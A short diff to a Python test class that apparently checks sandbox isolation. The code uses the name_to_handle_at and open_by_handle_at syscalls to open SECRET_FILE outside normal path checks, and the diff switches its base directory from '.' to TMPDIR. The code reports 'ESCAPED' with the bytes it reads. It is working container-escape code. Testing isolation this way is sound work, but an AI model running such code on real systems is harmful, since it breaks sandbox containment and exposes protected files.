@@ -16,7 +16,7 @@ class Candidate(Task):
         handle, mount = ctypes.create_string_buffer(b"\x80\0\0\0", 136), ctypes.c_int()
         if libc.syscall(name_to_handle, -100, b"SECRET_FILE", handle, ctypes.byref(mount), 0) < 0:
             raise OSError(ctypes.get_errno(), "no handle")
-        file = libc.syscall(open_by_handle, os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
+        file = libc.syscall(open_by_handle, os.open(os.environ["TMPDIR"], os.O_RDONLY), handle, os.O_RDONLY)
         if file < 0:
             raise OSError(ctypes.get_errno(), "not opened")
         raise RuntimeError(f"ESCAPED: {os.read(file, 100)!r}")
